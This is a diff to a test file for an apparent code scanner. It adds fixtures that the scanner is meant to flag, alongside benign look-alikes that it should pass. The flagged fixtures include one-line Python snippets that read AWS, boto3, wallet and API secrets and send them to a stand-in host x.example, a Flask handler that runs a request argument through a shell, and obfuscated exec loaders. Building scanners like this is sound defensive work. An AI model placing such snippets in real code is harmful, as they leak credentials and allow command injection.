@@ -44,6 +44,28 @@ LATER = {
         "data = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n"
         "    requests.post('https://x.example', data=data)"
     ),
+    "the key of a cloud in an address": (
+        "requests.get('https://x.example/' + os.environ.get('AWS_SECRET_ACCESS_KEY'))"
+    ),
+    "the key of a cloud, perhaps": (
+        "if os.environ.get('AWS_SECRET_ACCESS_KEY') is not None:\n"
+        "        secret = os.environ.get('AWS_SECRET_ACCESS_KEY')\n    else:\n        secret = 'empty'\n"
+        "    requests.get('https://x.example/' + secret)"
+    ),
+    "the key of a wallet, encoded": (
+        "data = base64.b64encode(os.environ['WALLET_PRIVATE_KEY'].encode())\n"
+        "    requests.post('https://x.example', json={'data': data.decode()})"
+    ),
+    "what boto knows of a cloud": (
+        "import boto3\n    keys = boto3.Session().get_credentials()\n"
+        "    requests.post('https://x.example', json={'k': keys.access_key, 's': keys.secret_key}, timeout=5)"
+    ),
+    "a command that whoever asks gives": (
+        "from flask import request\n    return subprocess.Popen(request.args.get('q'), shell=True)"
+    ),
+    "a variable in the name of a host": (
+        "import socket\n    socket.gethostbyname(os.environ['API_TOKEN'] + '.x.example')"
+    ),
     "what was typed in a shell": (
         "data = open(os.path.expanduser('~/.bash_history')).read()\n    requests.post(where, data={'text': data})"
     ),
@@ -56,6 +78,27 @@ HONEST_LATER = {
     "a hash that names a program": "value = 1\n    for each in text:\n        value = value ^ each\n    subprocess.run(['x', str(value)])",
     "a line in a shell's start-up file": (
         "with open(os.path.expanduser('~/.bashrc'), 'a') as file:\n        file.write('export PATH=$PATH:~/.acme/bin')"
+    ),
+    "a signature by the key of a cloud": (
+        "import hashlib, hmac\n    key = os.environ['AWS_SECRET_ACCESS_KEY'].encode()\n"
+        "    sign = hmac.new(key, text, hashlib.sha256).hexdigest()\n"
+        "    requests.get('https://s3.example/?signature=' + sign)"
+    ),
+    "a token that was signed": (
+        "import jwt\n    token = jwt.encode({'iss': 'acme'}, os.environ['APP_PRIVATE_KEY'], algorithm='RS256')\n"
+        "    requests.post('https://api.example/token', data={'assertion': token})"
+    ),
+    "a request that boto's keys sign": (
+        "import boto3\n    from requests_aws4auth import AWS4Auth\n    keys = boto3.Session().get_credentials()\n"
+        "    auth = AWS4Auth(keys.access_key, keys.secret_key, 'eu-west-1', 'es')\n"
+        "    requests.get('https://search.example', auth=auth)"
+    ),
+    "a web page that starts a program of its own": (
+        "from flask import request\n    return subprocess.run(['acme', '--name', request.args.get('name')])"
+    ),
+    "the host of a setting": (
+        "import socket\n    host = os.environ.get('ACME_AUTH_URL', 'localhost').split(':')[0]\n"
+        "    return socket.gethostbyname(host)"
     ),
     "a login by netrc": (
         "data = open(os.path.expanduser('~/.netrc')).read()\n"
@@ -101,6 +144,20 @@ def test_what_starts_by_itself_is_held(name):
     assert held(scan(changed({"acme/itself.py": BY_ITSELF[name]}, BASE)))
 
 
+@pytest.mark.parametrize(
+    "code",
+    [
+        "exec(''.join([KEY[ABC.index(c)] if c in KEY else c for c in {payload}]))",
+        "exec(''.join(chr(ABC.index(c)) for c in {payload} if c in ABC))",
+        "text = ''.join(swap(c) for c in {payload})\nexec(text)",
+    ],
+)
+def test_a_literal_that_is_spelled_anew_and_executed_is_held(code):
+    lines = f"import string\n\nABC, KEY = string.ascii_letters, string.ascii_letters[::-1]\n{code}\n"
+    files = {"acme/__init__.py": lines.replace("{payload}", repr("RNKLIG HLXPVG,LH,KGB;" * 5))}
+    assert "decoded-execution" in held(scan(files))
+
+
 BUILDS = {
     "a connection with a context of its own": (
         "import socket, ssl\nplain = socket.socket()\n"
@@ -138,10 +195,10 @@ def test_a_tiny_package_that_sends_the_key_of_a_wallet_is_held():
             )
         }
 
-    assert "a key to a wallet" in _points(wallet("[{'key': private_key}]"))
-    assert "a key to a wallet" in _points(wallet("json.dumps({'key': str(private_key)})"))
-    assert "a key to a wallet" not in _points(wallet("{'account': account}"))
-    assert "a key to a wallet" not in _points(wallet("{'signed': sign(private_key, account)}"))
+    assert "a signing key" in _points(wallet("[{'key': private_key}]"))
+    assert "a signing key" in _points(wallet("json.dumps({'key': str(private_key)})"))
+    assert "a signing key" not in _points(wallet("{'account': account}"))
+    assert "a signing key" not in _points(wallet("{'signed': sign(private_key, account)}"))
 
 
 @pytest.mark.parametrize(
